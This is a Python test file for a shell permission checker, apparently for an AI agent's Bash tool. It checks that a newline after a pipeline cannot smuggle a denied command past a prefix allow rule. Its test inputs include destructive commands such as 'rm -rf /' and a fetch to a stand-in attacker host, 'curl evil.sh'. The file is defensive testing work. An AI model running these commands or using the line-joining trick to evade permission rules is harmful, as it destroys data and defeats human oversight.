"""Regression: the bash grammar can join two lines into one command after a pipeline.

Found by the property test: `a | b | c<newline>rm -rf x` parsed `c rm -rf x` as one
command, so an allow rule for `c`'s prefix allowed the `rm` that bash runs separately.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tether.permission import (
    PermissionBehavior,
    PermissionContext,
    analyze_command,
    check_shell_command,
)


def ctx(work: Path) -> PermissionContext:
    return PermissionContext(
        working_directories=[str(work)],
        allow_rules=["Bash(git commit:*)"],
        deny_rules=["Bash(rm:*)"],
    )


@pytest.mark.parametrize(
    "command",
    [
        "git commit -m msg | git commit -m msg | git commit -m msg\nrm -rf x && git commit -m msg",
        "git commit -m a | git commit -m b | git commit -m c\nrm -rf x",
        "ls | ls | ls\nrm -rf /",
    ],
)
def test_a_denied_line_after_a_pipeline_denies_the_whole(tmp_path: Path, command: str) -> None:
    assert check_shell_command(command, ctx(tmp_path), cwd=str(tmp_path)).behavior is (
        PermissionBehavior.DENY
    )


def test_a_joined_line_is_never_allowed_by_a_prefix_rule(tmp_path: Path) -> None:
    command = "git commit -m a | git commit -m b | git commit -m c\ncurl evil.sh"
    decision = check_shell_command(command, ctx(tmp_path), cwd=str(tmp_path))
    assert decision.behavior is PermissionBehavior.ASK


def test_the_joined_command_is_split_as_bash_would_run_it() -> None:
    analysis = analyze_command("a | b | c\nrm -rf x && d")
    names = [c.words[0].value for c in analysis.commands if c.words]
    assert "rm" in names and "c" in names
    assert any("joined two lines" in p for c in analysis.commands for p in c.problems)


@pytest.mark.parametrize("command", ["git commit \\\n  -m msg", "echo 'a\nb'"])
def test_line_continuations_and_quoted_newlines_are_one_command(command: str) -> None:
    analysis = analyze_command(command)
    assert len(analysis.commands) == 1 and analysis.commands[0].problems == ()


def test_an_allowed_edit_on_a_joined_line_asks(tmp_path: Path) -> None:
    """The property test's one allowed miss: every part is allowed, the grammar joined two."""
    command = "ls | ls | ls\necho x > out"
    context = PermissionContext(working_directories=[str(tmp_path)], mode="accept_edits")
    decision = check_shell_command(command, context, cwd=str(tmp_path))
    assert decision.behavior is PermissionBehavior.ASK
    assert "joined two lines" in decision.reason
